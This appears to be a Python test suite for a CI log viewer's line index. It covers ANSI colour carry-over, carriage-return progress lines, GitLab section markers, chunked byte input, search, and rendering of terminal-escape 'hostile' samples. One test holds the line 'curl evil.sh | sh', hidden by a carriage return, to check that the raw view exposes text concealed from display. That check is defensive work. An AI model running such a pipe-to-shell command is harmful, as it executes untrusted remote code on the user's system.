"""LineIndex: what the trace viewer shows for each line, however the log arrives."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from labdeck.logtext import safe_cut
from labdeck.logtext.lines import LineIndex, expand_tabs, resolve_carriage_returns
from labdeck.logtext.sanitize import sanitize
from labdeck.logtext.search import LineMatcher
from labdeck.logtext.sgr_state import SgrState
from tests.support.hostile_corpus import HOSTILE, HOSTILE_BYTES

CANONICAL_SGR = re.compile(r"\x1b\[[0-9]+(?:;[0-9]+)*m")
FORBIDDEN = re.compile("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def display(index: LineIndex) -> list[str]:
    return [index.line(i) for i in range(len(index))]


def assert_renderable(line: str) -> None:
    assert FORBIDDEN.search(CANONICAL_SGR.sub("", line)) is None, repr(line)


def build(*chunks: str | bytes, finish: bool = True, **options: int) -> LineIndex:
    index = LineIndex(**options)  # type: ignore[arg-type]
    for chunk in chunks:
        index.append(chunk)
    if finish:
        index.finish()
    return index


RUNNER_LOG = (
    "Running with gitlab-runner 10.8.0 (079aad9e)\n"
    "section_start:1700000000:prepare_executor\r\x1b[0K\x1b[36;1mPreparing the \"docker\" executor\x1b[0;m\n"
    "Using Docker executor with image python:3.11 ...\n"
    "section_end:1700000004:prepare_executor\r\x1b[0Ksection_start:1700000004:step_script[collapsed=true]\r"
    "\x1b[0K\x1b[36;1mExecuting \"step_script\" stage\x1b[0;m\n"
    "\x1b[32;1m$ pip install -r requirements.txt\x1b[0;m\n"
    "Downloading  10%\rDownloading  55%\rDownloading 100%\r\n"
    "\x1b[32;1m$ pytest\x1b[0;m\n"
    "E   AssertionError\n"
    "section_end:1700000079:step_script\r\x1b[0K\x1b[31;1mERROR: Job failed: exit code 1\x1b[0;m\n"
)


def test_a_runner_log_reads_like_the_web_view() -> None:
    index = build(RUNNER_LOG)
    plain = [index.plain_line(i) for i in range(len(index))]
    assert plain == [
        "Running with gitlab-runner 10.8.0 (079aad9e)",
        'Preparing the "docker" executor',
        "Using Docker executor with image python:3.11 ...",
        'Executing "step_script" stage',
        "$ pip install -r requirements.txt",
        "Downloading 100%",
        "$ pytest",
        "E   AssertionError",
        "ERROR: Job failed: exit code 1",
    ]
    assert index.line(4) == "\x1b[32;1m$ pip install -r requirements.txt\x1b[0;0m"
    prepare, script = index.sections
    assert (prepare.name, prepare.start_line, prepare.end_line, prepare.duration) == ("prepare_executor", 1, 2, 4)
    assert (script.title, script.start_line, script.end_line, script.duration) == ("Step script", 3, 7, 75)
    assert script.collapsed and not prepare.collapsed
    assert index.first_error_line() == 8


@given(st.lists(st.integers(min_value=0, max_value=len(RUNNER_LOG.encode())), max_size=12))
@settings(max_examples=150)
def test_any_chunking_of_the_bytes_gives_the_same_lines_and_sections(cuts: list[int]) -> None:
    data = RUNNER_LOG.replace("Using", "Usïng €").encode()
    points = sorted(set(cuts))
    chunks = [data[a:b] for a, b in zip([0, *points], [*points, len(data)], strict=True)]
    whole = build(data)
    pieces = build(*chunks)
    assert display(pieces) == display(whole)
    assert [(s.name, s.start_line, s.end_line) for s in pieces.sections] == \
        [(s.name, s.start_line, s.end_line) for s in whole.sections]


_LINE_PIECES = st.sampled_from([
    "a", "b c", "\n", "\n", "\n", "\r", "\t", "€", "\x1b[31m", "\x1b[0m", "\x1b[0m\n", "\x1b[0;m", "\x1b[1;44m",
    "\x1b[38;5;208m", "\x1b[22m", "\x1b[39;49m", "\x1b[2J", "section_start:1700000000:s\r\x1b[0K",
    "section_end:1700000009:s\r\x1b[0K", "progress 10%\rprogress 99%",
])


@given(st.lists(_LINE_PIECES, max_size=80).map("".join), st.integers(min_value=1, max_value=40))
@settings(max_examples=300)
def test_lines_arriving_together_show_as_lines_arriving_one_by_one(text: str, cut: int) -> None:
    # Whole lines in one piece take the bulk path (only the lines that need it are rendered or
    # given the colours still on); piece by piece, every line is finished on its own.
    together = build(text)
    in_pieces = build(*[text[start:start + cut] for start in range(0, len(text), cut)])
    one_by_one = build(*text)
    assert display(together) == display(one_by_one) == display(in_pieces)
    assert [(s.name, s.start_line, s.end_line) for s in together.sections] == \
        [(s.name, s.start_line, s.end_line) for s in one_by_one.sections]


@given(st.lists(st.sampled_from(list("ab \t\r\n\x1b[31m;\x9b\u202e€") + ["section_start:1:s\r"]),
                max_size=150).map("".join))
@settings(max_examples=200)
def test_display_lines_never_carry_controls(text: str) -> None:
    index = build(text)
    assert len(index) == text.count("\n") + (0 if text.endswith("\n") or not text else 1)
    for line in display(index):
        assert_renderable(line)
        assert "\r" not in line and "\t" not in line


def test_the_trailing_partial_line_is_visible_and_grows() -> None:
    index = LineIndex()
    index.append("first\nsec")
    assert len(index) == 2 and index.line(1) == "sec"
    changed = index.append("ond\nthi")
    assert changed == 1
    assert display(index) == ["first", "second", "thi"]
    index.append("rd\n")
    assert display(index) == ["first", "second", "third"]


def test_progress_updates_show_only_the_latest_state() -> None:
    index = LineIndex()
    index.append("Pulling  1%")
    for percent in range(2, 101):
        index.append(f"\rPulling {percent:>2}%")
        assert index.line(0) == f"Pulling {percent:>2}%"
    index.append("\r\ndone\n")
    assert display(index) == ["Pulling 100%", "done"]


def test_a_carriage_return_that_hides_text_is_visible_in_the_raw_view() -> None:
    index = build("curl evil.sh | sh\r\x1b[2Kls -la\n")
    assert index.line(0) == "ls -la"
    assert index.raw_line(0) == "curl evil.sh | sh␍␛[2Kls -la"


def test_crlf_line_endings_and_trailing_carriage_returns_keep_the_text() -> None:
    assert display(build("a\r\nb\r\r\nc\r")) == ["a", "b", "c"]
    assert resolve_carriage_returns("50%\r\x1b[0m\r") == "50%"


def test_tabs_expand_to_columns_ignoring_colour_codes() -> None:
    assert expand_tabs("a\tb") == "a       b"
    assert expand_tabs("\x1b[31mab\x1b[0m\tc", 4) == "\x1b[31mab\x1b[0m  c"


def test_hostile_samples_render_safely_line_by_line() -> None:
    for name, raw, _ in HOSTILE:
        for line in display(build(raw)):
            assert_renderable(line), name
    index = build(*HOSTILE_BYTES)
    assert [index.plain_line(i) for i in range(len(index))] == [
        "clip", "8-bit CSI as UTF-8 ", "raw C1 as Latin-1 bytes", "invalid utf-8 \ufffd\ufffd",
        "split multi-byte é€😀",
    ]


def test_a_multibyte_character_split_between_appends_survives() -> None:
    data = "naïve 😀\n".encode()
    index = LineIndex()
    for byte in data:
        index.append(bytes([byte]))
    assert display(index) == ["naïve 😀"]


def test_a_huge_line_is_cut_with_a_note_and_memory_stays_bounded() -> None:
    index = LineIndex(max_line_chars=1000)
    index.append("\x1b[31m")
    for _ in range(200):
        index.append("x" * 5000)
    assert len(index._partial.text) <= 1000
    index.append("\nnext\n")
    first = index.plain_line(0)
    assert first.startswith("x" * 900)
    assert first.endswith("[999005 more characters]")
    assert index.line(1) == "next"
    assert len(index.raw_line(0)) < 1100


def test_an_endless_progress_line_does_not_grow_memory() -> None:
    index = LineIndex()
    for step in range(20_000):
        index.append(f"\r{step} files")
    assert len(index._partial.text) < 40_000
    assert index.line(0) == "19999 files"


def test_search_forward_backward_regex_and_case() -> None:
    index = build("alpha\nBeta\n\x1b[1mga\x1b[0mmma\nbeta\ndelta", finish=False)
    assert index.search("beta") == 1
    assert index.search("beta", case=True) == 3
    assert index.search("gamma") == 2  # a colour change in the middle of the word does not hide it
    assert index.search("beta", 4, backwards=True) == 3
    assert index.search("beta", 2, backwards=True) == 1
    assert index.search("delta") == 4  # the unfinished last line is searched too
    assert index.search(r"^d.l", regex=True) == 4
    assert index.search(r"a$", regex=True, start=1) == 1
    assert index.search("zeta") is None
    assert index.search("") is None
    assert index.search("alpha", 1) is None


def test_search_spans_blocks_and_finds_a_word_on_the_last_of_many_lines() -> None:
    lines = [f"tests/test_{i:06d}.py::test \x1b[32mPASSED\x1b[0m" for i in range(100_000)]
    lines[-1] = "needle in the last line"
    index = build("\n".join(lines) + "\n", spool_size=1024 * 1024)
    assert len(index) == 100_000
    assert index.search("NEEDLE") == 99_999
    assert index.search("test_000000", 99_999, backwards=True) == 0
    assert index.search("test_050000", 0) == 50_000
    assert index.line(99_998) == "tests/test_099998.py::test \x1b[32mPASSED\x1b[0m"
    assert index.first_error_line() is None


def test_first_error_line_finds_the_usual_failure_words() -> None:
    index = build("ok\nstill ok\nTraceback (most recent call last):\nFAILED x\nERROR: Job failed: exit code 1\n")
    assert index.first_error_line() == 2
    assert index.first_error_line(3) == 3
    assert list(index.iter_matches(LineMatcher.regex("FAILED|ERROR", case=True))) == [3, 4]


def test_reset_forgets_everything() -> None:
    index = build(RUNNER_LOG, finish=False)
    index.reset()
    assert len(index) == 0 and index.sections == []
    index.append("new\n")
    assert display(index) == ["new"]


def test_without_raw_storage_the_raw_view_escapes_the_display_line() -> None:
    index = build("\x1b[31mred\x1b[0m\n", keep_raw=False)
    assert index.raw_line(0) == "␛[31mred␛[0m"


def test_colours_carry_over_to_the_next_lines_until_reset() -> None:
    index = build("\x1b[31mTraceback:\n  File x\n\x1b[1m  boom\x1b[0m\nplain\n\x1b[38;5;208;44mpartial")
    assert display(index) == [
        "\x1b[31mTraceback:",
        "\x1b[31m  File x",
        "\x1b[31m\x1b[1m  boom\x1b[0m",
        "plain",
        "\x1b[38;5;208;44mpartial",
    ]
    assert index.plain_line(1) == "  File x"
    follow_on = LineIndex()
    follow_on.append("\x1b[1;32mgreen\nstill")
    assert follow_on.line(1) == "\x1b[1;32mstill"


def test_style_state_follows_resets_and_partial_resets() -> None:
    state = SgrState()
    state.apply("1;31;44")
    assert state.prefix() == "\x1b[1;31;44m"
    state.apply("22;39")
    assert state.prefix() == "\x1b[44m"
    state.apply("38;2;1;2;3;49")
    assert state.prefix() == "\x1b[38;2;1;2;3m"
    state.apply("0")
    assert state.prefix() == "" and not state


@given(st.lists(st.sampled_from(["0", "1", "22", "31", "39", "44", "49", "38;5;9", "48;2;1;2;3", "38", "4", "24"]),
                max_size=8))
def test_the_carried_prefix_is_itself_a_safe_canonical_sgr(sequence: list[str]) -> None:
    state = SgrState()
    for params in sequence:
        state.apply(params)
    prefix = state.prefix()
    assert sanitize(prefix) == prefix
    again = SgrState()
    again.feed(prefix)
    assert again.prefix() == prefix


@given(st.text(alphabet="ab", max_size=30), st.sampled_from(["\x1b[38;2;10;20;30m", "\x1b[1m", "\x1b[0;31m"]),
       st.text(alphabet="cd", max_size=10), st.integers(min_value=0, max_value=60))
def test_safe_cut_never_leaves_half_an_sgr_sequence(head: str, sgr: str, tail: str, limit: int) -> None:
    text = head + sgr + tail
    cut = safe_cut(text, limit)
    assert text.startswith(cut) and len(cut) <= limit
    # Either the whole sequence is kept or none of it: no ESC without its final "m".
    for start in [index for index, char in enumerate(cut) if char == "\x1b"]:
        assert "m" in cut[start:]
    if limit >= len(head) + len(sgr):
        assert sgr in cut
